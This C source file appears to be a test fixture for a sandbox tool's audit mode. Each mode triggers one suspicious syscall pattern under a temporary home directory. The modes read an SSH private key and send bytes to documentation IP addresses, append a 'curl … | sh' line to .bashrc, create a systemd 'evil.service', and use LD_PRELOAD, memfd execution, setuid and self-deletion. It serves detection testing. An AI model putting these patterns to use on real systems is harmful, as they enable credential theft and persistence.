/* Suspicious syscall patterns for ring3's --audit, one per mode (argv[1]). Everything happens under
   $HOME, which the test points at a temp dir; the network mode needs --deny-network (or no route). */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static char path[4096];

static const char *home_path(const char *rel) {
    snprintf(path, sizeof path, "%s/%s", getenv("HOME"), rel);
    return path;
}

static void result(const char *what, long r) {
    printf("%s: %s\n", what, r < 0 ? strerror(errno) : "ok");
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IONBF, 0);
    const char *mode = argc > 1 ? argv[1] : "benign";
    if (!strcmp(mode, "exfil")) {
        int fd = open(home_path(".ssh/id_rsa"), O_RDONLY);
        char key[256];
        ssize_t n = fd >= 0 ? read(fd, key, sizeof key) : -1;
        printf("read key: %s\n", n > 0 ? "yes" : "no");
        int s = socket(AF_INET, SOCK_STREAM, 0);
        struct sockaddr_in a = {0};
        a.sin_family = AF_INET;
        a.sin_port = htons(443);
        inet_pton(AF_INET, "203.0.113.7", &a.sin_addr); /* TEST-NET-3: documentation only */
        result("connect", connect(s, (struct sockaddr *) &a, sizeof a));
        int u = socket(AF_INET, SOCK_DGRAM, 0);
        inet_pton(AF_INET, "198.51.100.1", &a.sin_addr); /* TEST-NET-2 */
        result("sendto", sendto(u, key, 8, 0, (struct sockaddr *) &a, sizeof a));
    } else if (!strcmp(mode, "ptrace")) {
        result("ptrace(TRACEME)", ptrace(PTRACE_TRACEME, 0, 0, 0));
        result("ptrace(TRACEME) again", ptrace(PTRACE_TRACEME, 0, 0, 0));
    } else if (!strcmp(mode, "bashrc")) {
        int fd = open(home_path(".bashrc"), O_WRONLY | O_CREAT | O_APPEND, 0644);
        result("open .bashrc", fd);
        result("write", write(fd, "curl example.invalid | sh\n", 26));
        close(fd);
    } else if (!strcmp(mode, "systemd")) {
        mkdir(home_path(".config"), 0755);
        mkdir(home_path(".config/systemd"), 0755);
        result("mkdir unit dir", mkdir(home_path(".config/systemd/user"), 0755));
        result("write unit", open(home_path(".config/systemd/user/evil.service"), O_WRONLY | O_CREAT, 0644));
    } else if (!strcmp(mode, "shell")) {
        char *args[] = {"sh", "-c", "id", NULL};
        char *env[] = {"PATH=/bin", NULL};
        result("execve shell", execve(home_path("no-such-dir/bin/sh"), args, env));
    } else if (!strcmp(mode, "preload")) {
        char *args[] = {"prog", NULL};
        char *env[] = {"LD_PRELOAD=/tmp/evil.so", NULL};
        result("execve with LD_PRELOAD", execve(home_path("no-such-program"), args, env));
    } else if (!strcmp(mode, "memfd")) {
        int fd = memfd_create("payload", MFD_CLOEXEC);
        result("memfd_create", fd);
        result("write payload", write(fd, "not an elf\n", 11));
        char p[64];
        snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
        char *args[] = {"payload", NULL};
        char *env[] = {NULL};
        result("execve memfd", execve(p, args, env));
    } else if (!strcmp(mode, "setuid")) {
        int fd = open(home_path("tool"), O_WRONLY | O_CREAT, 0755);
        close(fd);
        result("chmod 4755", chmod(home_path("tool"), 04755));
        struct stat st;
        stat(home_path("tool"), &st);
        printf("setuid bit: %s\n", (st.st_mode & S_ISUID) ? "set" : "clear");
    } else if (!strcmp(mode, "selfdelete")) {
        char self[4096];
        ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);
        if (n > 0) {
            self[n] = 0;
            result("unlink self", unlink(self));
        }
    } else {
        /* benign: reads and writes its own files only, connects to loopback only */
        int fd = open(home_path("notes.txt"), O_WRONLY | O_CREAT | O_TRUNC, 0644);
        result("write own file", write(fd, "hello\n", 6));
        close(fd);
        fd = open(home_path("notes.txt"), O_RDONLY);
        char b[16];
        result("read own file", read(fd, b, sizeof b));
        close(fd);
        result("chmod 0600", chmod(home_path("notes.txt"), 0600));
        int s = socket(AF_INET, SOCK_STREAM, 0);
        struct sockaddr_in a = {0};
        a.sin_family = AF_INET;
        a.sin_port = htons(9); /* discard: nothing listens; refused */
        a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        connect(s, (struct sockaddr *) &a, sizeof a);
        printf("connect loopback done\n");
    }
    return 0;
}
